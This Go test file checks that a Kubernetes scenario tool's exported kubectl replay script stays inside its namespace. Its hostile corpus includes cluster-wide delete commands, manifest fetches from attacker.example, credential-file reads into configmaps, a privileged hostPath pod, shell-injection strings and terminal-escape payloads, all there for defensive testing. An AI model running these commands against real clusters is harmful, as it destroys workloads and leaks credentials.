package export

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"converge/core/kubectl"
	"converge/core/scenario"
)

// hostileHead is a scenario's start, with three nodes and a Deployment, to
// which each hostile case adds its objects and steps.
const hostileHead = `name: '%s'
duration: 60s
cluster:
  nodes:
  - {name: node-1}
  - {name: node-2}
  - {name: node-3}
objects:
- apiVersion: apps/v1
  kind: Deployment
  metadata: {name: web}
  spec:
    replicas: 2
    selector: {matchLabels: {app: web}}
    template:
      metadata: {labels: {app: web}}
      spec:
        containers: [{name: web, image: "nginx:1.27"}]
`

// hostilePod is a pod that mounts the host's / with privileges.
const hostilePod = `- apiVersion: v1
  kind: Pod
  metadata: {name: pwn}
  spec:
    hostPID: true
    containers:
    - name: pwn
      image: busybox
      securityContext: {privileged: true}
      volumeMounts: [{name: host, mountPath: /host}]
    volumes: [{name: host, hostPath: {path: /}}]
`

// hostileSteps are kubectl steps an attacker would write (each passes the
// scenario's load): the payloads and more.
var hostileSteps = []string{
	"delete pods --all --all-namespaces",
	"delete pods --all -A",
	"get pods -A",
	"delete nodes --all",
	"delete node kind-control-plane",
	"delete no/kind-control-plane",
	"delete nodes -l node-role.kubernetes.io/control-plane=",
	"delete node node-1 --all",
	"delete node/node-1 deployment/web",
	"delete namespace kube-system",
	"delete ns default",
	"delete --raw /api/v1/namespaces/kube-system",
	"create --raw /api/v1/namespaces -f https://attacker.example/ns.json",
	"create -f https://attacker.example/pwn.yaml",
	"apply -f https://attacker.example/pwn.yaml",
	"apply -f /etc/kubernetes/admin.conf",
	"apply -k /root",
	"delete -f /root/x.yaml",
	"create configmap leak --from-file=/root/.kube/config",
	"create configmap leak --from-env-file=/root/.aws/credentials",
	"patch deployment web --patch-file=/root/.ssh/id_rsa",
	"patch node node-1 -p '{\"spec\":{\"unschedulable\":true}}'",
	`patch deployment web -p '{"spec":{"template":{"spec":{"hostNetwork":true}}}}'`,
	`patch deployment web --type=json -p '[{"op":"add","path":"/spec/template/spec/volumes","value":[{"name":"h","hostPath":{"path":"/"}}]}]'`,
	`patch deployment web --type=json -p '[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]'`,
	`patch deployment web -p 'spec: {template: {spec: {containers: [{name: web, securityContext: {privileged: true}}]}}}'`,
	"taint nodes --all evil=1:NoExecute",
	"taint nodes node-1 evil=1:NoExecute --overwrite",
	"taint nodes node-9 evil=1:NoExecute",
	"taint nodes -l kubernetes.io/os=linux evil=1:NoExecute",
	"taint nodes node-1 node-role.kubernetes.io/control-plane:NoSchedule-",
	"label nodes node-1 evil=yes",
	"annotate node node-1 evil=yes",
	"cordon kind-control-plane",
	"drain kind-control-plane --ignore-daemonsets",
	"drain -l node-role.kubernetes.io/control-plane= --ignore-daemonsets",
	"get pods -o jsonpath-file=/etc/passwd",
	"get pods -o go-template-file=/etc/shadow",
	"get pods -o custom-columns-file=/root/.kube/config",
	"set env deployment/web --from=secret/admin",
	"get pods -w",
	"apply --server-side -f -",
}

// containedSteps act only inside the namespace, so the replay runs them,
// quoted so that no shell expands what they hold.
var containedSteps = []string{
	"label pods --all evil=yes",
	"create deployment pwn --image=busybox -- sh -c 'rm -rf / --no-preserve-root'",
	"annotate deployment/web 'x=$(touch pwned)`touch pwned`'",
	"scale 'deployment/$(touch pwned)' --replicas=1",
	"delete pods --all",
	// A namespace named is dropped: the step runs in the replay's.
	"scale deployment web --replicas=0 --namespace kube-system",
	"scale deployment coredns --replicas=0 -n kube-system",
	"delete pods --all -n kube-system",
}

// hostileApplies are apply steps and objects an attacker would write.
var hostileApplies = []string{
	hostilePod,
	`- apiVersion: v1
  kind: Service
  metadata: {name: open}
  spec: {type: NodePort, selector: {app: web}, ports: [{port: 80}]}
`,
	`- apiVersion: v1
  kind: Service
  metadata: {name: mitm}
  spec: {externalIPs: [8.8.8.8], selector: {app: web}, ports: [{port: 53}]}
`,
	`- apiVersion: apps/v1
  kind: Deployment
  metadata: {name: greedy, namespace: kube-system}
  spec:
    replicas: 1
    selector: {matchLabels: {app: greedy}}
    template:
      metadata: {labels: {app: greedy}}
      spec:
        priorityClassName: system-node-critical
        containers: [{name: c, image: busybox}]
`,
	`- apiVersion: apps/v1
  kind: Deployment
  metadata: {name: caps}
  spec:
    replicas: 1
    selector: {matchLabels: {app: caps}}
    template:
      metadata: {labels: {app: caps}}
      spec:
        hostNetwork: true
        containers:
        - name: c
          image: busybox
          ports: [{containerPort: 22, hostPort: 22}]
          securityContext: {capabilities: {add: [SYS_ADMIN]}, allowPrivilegeEscalation: true}
`,
}

// hostileScenario is every hostile step and object in one scenario.
func hostileScenario(t *testing.T, name string, extraSteps ...string) *scenario.Scenario {
	t.Helper()
	var b strings.Builder
	fmt.Fprintf(&b, hostileHead, name)
	for _, a := range hostileApplies {
		b.WriteString(a)
	}
	b.WriteString("steps:\n")
	steps := append(append(append([]string{}, hostileSteps...), containedSteps...), extraSteps...)
	for i, s := range steps {
		fmt.Fprintf(&b, "- at: %ds\n  kubectl: %s\n", i/10+1, yamlQuote(s))
	}
	for i, a := range hostileApplies {
		fmt.Fprintf(&b, "- at: %ds\n  apply:\n", 30+i)
		for _, l := range strings.Split(strings.TrimRight(a, "\n"), "\n") {
			b.WriteString("    " + l + "\n")
		}
	}
	scn, probs := scenario.Parse([]byte(b.String()), name+".yaml")
	require.False(t, probs.HasErrors(), "the hostile scenario loads: %v\n%s", probs, b.String())
	return scn
}

func yamlQuote(s string) string { return `'` + strings.ReplaceAll(s, `'`, `''`) + `'` }

// outside says what a logged call of the fake kubectl does outside the
// replay's namespace, or "" for nothing. nodeSteps allows the cordon,
// uncordon, drain and taint of the scenario's nodes (converge-worker...).
func outside(call string, nodeSteps bool) string {
	rest, ok := strings.CutPrefix(call, "kubectl ")
	if !ok {
		return ""
	}
	switch {
	case rest == "config current-context", strings.HasPrefix(rest, "config view --minify -o jsonpath="),
		rest == "get namespace replay-test", rest == "create namespace replay-test":
		return ""
	case regexp.MustCompile(`^get node converge-worker[0-9]* -o jsonpath=\{\.spec\.unschedulable\}$`).MatchString(rest):
		return ""
	}
	nodeOp := regexp.MustCompile(`^(cordon|uncordon|drain|taint nodes|delete node) converge-worker[0-9]*( |$)`)
	if nodeOp.MatchString(rest) {
		if nodeSteps {
			return ""
		}
		return "a node step without CONVERGE_NODE_STEPS=1"
	}
	inner, ok := strings.CutPrefix(rest, "--namespace replay-test ")
	if !ok {
		return "a call outside the namespace"
	}
	if nodeOp.MatchString(inner) {
		if nodeSteps {
			return ""
		}
		return "a node step without CONVERGE_NODE_STEPS=1"
	}
	words := strings.Fields(inner)
	dashed := false
	for _, w := range words {
		dashed = dashed || w == "--"
		switch {
		case dashed && strings.HasPrefix(inner, "create deployment "):
			// A container's command, which runs in the pod.
		case w == "-A", strings.HasPrefix(w, "--all-namespaces"), strings.HasPrefix(w, "--raw"),
			strings.HasPrefix(w, "--from-file"), strings.HasPrefix(w, "--from-env-file"), strings.HasPrefix(w, "--patch-file"),
			strings.HasPrefix(w, "--kustomize"), strings.Contains(w, "-file="), strings.Contains(w, "kube-system"),
			strings.Contains(w, "attacker"), strings.HasPrefix(w, "/"):
			return "the word " + w
		case strings.HasPrefix(w, "--filename"), w == "-f":
			if inner != "apply -f -" {
				return "a file read"
			}
		}
	}
	if len(words) >= 2 {
		switch words[0] {
		case "cordon", "uncordon", "drain", "taint":
			return "a node step on a node that is not the scenario's"
		case "delete", "label", "annotate", "patch", "scale", "create":
			if regexp.MustCompile(`^(no|nodes?|ns|namespaces?)(/|,|$)`).MatchString(words[1]) {
				return "a change to " + words[1]
			}
		}
	}
	return ""
}

// The hostile corpus, exported and run with a fake kubectl: the script
// touches nothing outside its namespace (every call is checked), applies
// nothing privileged or from the host, and leaves out every step that
// would, with a comment that says why. With CONVERGE_NODE_STEPS=1 only the
// scenario's own nodes are touched, and each is put back on exit.
func TestHostileScenariosTouchNothingOutsideTheirNamespace(t *testing.T) {
	t.Parallel()
	scn := hostileScenario(t, "hostile",
		"cordon node-1", "taint nodes node-2 demo=1:NoSchedule", "taint nodes node-2 demo-", "drain node-3 --ignore-daemonsets",
		"delete node node-3")
	script, err := Kubectl(scn, KubectlOptions{})
	require.NoError(t, err)
	text := string(script)
	for _, s := range hostileSteps {
		assert.Contains(t, text, "# LEFT OUT: kubectl "+strings.Split(s, "\n")[0], "the step %q is left out with a comment", s)
	}
	for _, bad := range []string{"privileged: true", "hostPath", "kind: Node", "kind: Namespace", "https://", "/root/"} {
		for _, l := range strings.Split(text, "\n") {
			if strings.Contains(l, bad) && !strings.HasPrefix(l, "#") && !strings.HasPrefix(l, "note ") {
				t.Errorf("the script runs %q: %s", bad, l)
			}
		}
	}
	for _, nodeSteps := range []bool{false, true} {
		t.Run(fmt.Sprintf("node steps %v", nodeSteps), func(t *testing.T) {
			t.Parallel()
			env := []string{"CONVERGE_YES=1"}
			if nodeSteps {
				env = append(env, "CONVERGE_NODE_STEPS=1")
			}
			code, stdout, stderr, log := replayEnv(t, script, []string{"get node converge-worker\t0\t"}, env)
			assert.Equal(t, 0, code, "stdout:\n%s\nstderr:\n%s", stdout, stderr)
			calls := 0
			for _, c := range strings.Split(log, "\n") {
				if strings.HasPrefix(c, "  | ") {
					for _, bad := range []string{"privileged", "hostPath", "hostNetwork", "hostPort", "NodePort", "externalIPs", "priorityClassName", "kube-system"} {
						assert.NotContains(t, c, bad)
					}
					continue
				}
				if why := outside(c, nodeSteps); why != "" {
					t.Errorf("%s: %s", c, why)
				}
				calls++
			}
			assert.Greater(t, calls, 10, log)
			for _, s := range containedSteps {
				assert.Contains(t, stdout, "$ kubectl "+s+"\n", "the contained step runs")
			}
			if !nodeSteps {
				assert.NotContains(t, log, "cordon")
				assert.Contains(t, stdout, "SKIP kubectl cordon node-1")
				return
			}
			// Each node the steps touched is put back, after the last step,
			// but the one they deleted, which the script says it cannot.
			tail := log[strings.LastIndex(log, "delete node converge-worker3"):]
			assert.Contains(t, tail, "kubectl taint nodes converge-worker2 demo:NoSchedule-\n")
			assert.Contains(t, tail, "kubectl uncordon converge-worker\n")
			assert.NotContains(t, log, "uncordon converge-worker3")
			assert.Contains(t, stdout, "NOT restored: the replay deleted the node converge-worker3;")
		})
	}
}

// The policy's unit cases: what is run, what is opt-in, what is left out.
func TestJudgeCommand(t *testing.T) {
	t.Parallel()
	g := &script{scn: hostileScenario(t, "judge"), taints: map[string]bool{}}
	tests := []struct {
		name, line string
		want       verdict
	}{
		{"a read", "get pods -o wide", runIt},
		{"a read of nodes", "get nodes", runIt},
		{"scale", "scale deployment/web --replicas=3", runIt},
		{"set image", "set image deployment/web web=nginx:1.28", runIt},
		{"annotate with a slash in the key", "annotate deployment/web kubernetes.io/change-cause=x --overwrite", runIt},
		{"label removal", "label pods --all app-", runIt},
		{"delete in the namespace", "delete pods --all", runIt},
		{"a benign patch", `patch deployment web -p '{"spec":{"replicas":3}}'`, runIt},
		{"create configmap from literals", "create configmap c --from-literal=a=b", runIt},
		{"cordon a scenario node", "cordon node-1", nodeOptIn},
		{"taint a scenario node", "taint nodes node-2 k=v:NoExecute", nodeOptIn},
		{"remove a taint not added", "taint nodes node-2 k-", leaveOut},
		{"delete a scenario node", "delete node node-1", nodeOptIn},
		{"delete scenario nodes by TYPE/NAME", "delete nodes/node-1 no/node-2", nodeOptIn},
		{"delete another node", "delete node kind-control-plane", leaveOut},
		{"delete every node", "delete nodes --all", leaveOut},
		{"delete nodes by a selector", "delete nodes -l a=b", leaveOut},
		{"delete a node with names and --all", "delete node node-1 --all", leaveOut},
		{"delete a node and a Deployment", "delete node/node-1 deployment/web", leaveOut},
		{"delete no node", "delete nodes", leaveOut},
		{"patch a node", `patch node node-1 -p '{"metadata":{"labels":{"a":"b"}}}'`, leaveOut},
		{"an unmodelled kind", "delete secrets --all", leaveOut},
		{"cordon another node", "cordon kind-control-plane", leaveOut},
		{"all namespaces", "get pods -A", leaveOut},
		{"a template file", "get pods -o templatefile=/etc/passwd", leaveOut},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cmd, err := kubectl.Parse(tt.line)
			require.NoError(t, err)
			got, why := g.judgeCommand(cmd)
			assert.Equal(t, tt.want, got, why)
			assert.Equal(t, got == leaveOut, why != "", "a step left out says why")
		})
	}
}

// The replay asks before it changes anything: without CONVERGE_YES=1 and
// without a terminal it stops after reading the context, having created
// nothing; it prints the context and the cluster first.
func TestReplayAsksBeforeItChangesAnything(t *testing.T) {
	t.Parallel()
	script, err := Kubectl(hostileScenario(t, "ask"), KubectlOptions{})
	require.NoError(t, err)
	rules := []string{"config current-context\t0\tprod-admin", "config view\t0\tprod at https://10.0.0.1:6443"}
	code, stdout, stderr, log := replayEnv(t, script, rules, []string{"CONVERGE_YES="})
	assert.Equal(t, 2, code)
	assert.Contains(t, stdout, "kubectl's current context: prod-admin; its cluster: prod at https://10.0.0.1:6443\n")
	assert.Contains(t, stderr, "set CONVERGE_YES=1")
	assert.NotContains(t, log, "create namespace")
	for _, c := range strings.Split(strings.TrimSpace(log), "\n") {
		assert.Regexp(t, `^kubectl (config|get namespace)`, c)
	}
}

// The replay's namespace is always a valid name, whatever the scenario's
// name, and the script refuses a NAMESPACE that is not one.
func TestReplayNamespaceIsAlwaysValid(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, want string }{
		{"-", "converge"},
		{"a-", "converge-a"},
		{"web", "converge-web"},
		{"Web_App.v2", "converge-web-app-v2"},
		{strings.Repeat("a", 55), "converge-" + strings.Repeat("a", 54)},
		{strings.Repeat("b", 63), "converge-" + strings.Repeat("b", 54)},
		{strings.Repeat("c", 53) + "-d", "converge-" + strings.Repeat("c", 53)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := namespaceLabel(tt.name)
			assert.Equal(t, tt.want, got)
			assert.True(t, validNamespace(got))
		})
	}
	re := regexp.MustCompile(`^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$`)
	for _, s := range []string{"", "-", "a", "a-", "-a", "a-b", "A", "a_b", "ab.c", strings.Repeat("a", 63), strings.Repeat("a", 64), "é"} {
		assert.Equal(t, re.MatchString(s), validNamespace(s), "%q", s)
	}
	script, err := Kubectl(hostileScenario(t, "-"), KubectlOptions{})
	require.NoError(t, err)
	assert.Contains(t, string(script), "namespace=${NAMESPACE:-converge}\n")
	bash := bashPath(t)
	dir := t.TempDir()
	file := filepath.Join(dir, "replay.sh")
	require.NoError(t, os.WriteFile(file, script, 0o755))
	cmd := exec.Command(bash, file)
	cmd.Env = append(os.Environ(), "NAMESPACE=kube-system;rm", "PATH="+fakeBin(t)+":"+os.Getenv("PATH"), "FAKE_LOG="+filepath.Join(dir, "log"), "FAKE_RULES=/dev/null")
	out, err := cmd.CombinedOutput()
	require.Error(t, err)
	assert.Contains(t, string(out), "is not a namespace name")
}

// Control characters in a step's arguments reach kubectl as the very bytes,
// yet the script itself holds none raw (no escape sequence for `cat
// replay.sh` to run, no carriage return or bidi override for an editor to
// hide text with): $'...' words in the commands, \xHH in the comments.
func TestScriptHoldsNoRawControlCharacters(t *testing.T) {
	t.Parallel()
	scn, probs := scenario.Parse([]byte(`name: esc
title: "Rolling \e]0;owned\a update \u202e"
duration: 5s
objects:
- apiVersion: apps/v1
  kind: Deployment
  metadata:
    name: web
    annotations: {note: "a\e[2Jb\rc"}
  spec:
    replicas: 1
    selector: {matchLabels: {app: web}}
    template:
      metadata: {labels: {app: web}}
      spec: {containers: [{name: web, image: "nginx:1.27"}]}
steps:
- at: 1s
  kubectl: "annotate deployment/web 'x=\e[2J\adone\u202e' --overwrite"
- at: 2s
  kubectl: "delete namespace \"\e[2Jkube-system\""
`), "esc.yaml")
	require.False(t, probs.HasErrors(), "%v", probs)
	script, err := Kubectl(scn, KubectlOptions{})
	require.NoError(t, err)
	for i, r := range string(script) {
		if hidden(r) {
			t.Fatalf("a raw %U at byte %d: %q", r, i, string(script)[max(0, i-40):i+10])
		}
	}
	assert.Contains(t, string(script), `annotate deployment/web $'x=\x1b[2J\x07done\xe2\x80\xae' --overwrite=true`)
	assert.Contains(t, string(script), `# LEFT OUT: kubectl delete namespace "\x1b[2Jkube-system"`)
	_, _, _, log := replay(t, script, nil)
	assert.Contains(t, log, "kubectl --namespace replay-test annotate deployment/web x=\x1b[2J\adone\u202e --overwrite=true\n")
}

// validNamespace reports whether s is a namespace name (an RFC 1123
// label): `^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$`, which the script checks
// $NAMESPACE against.
func validNamespace(s string) bool {
	if s == "" || len(s) > 63 || s[0] == '-' || s[len(s)-1] == '-' {
		return false
	}
	for _, r := range s {
		if !(r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-') {
			return false
		}
	}
	return true
}
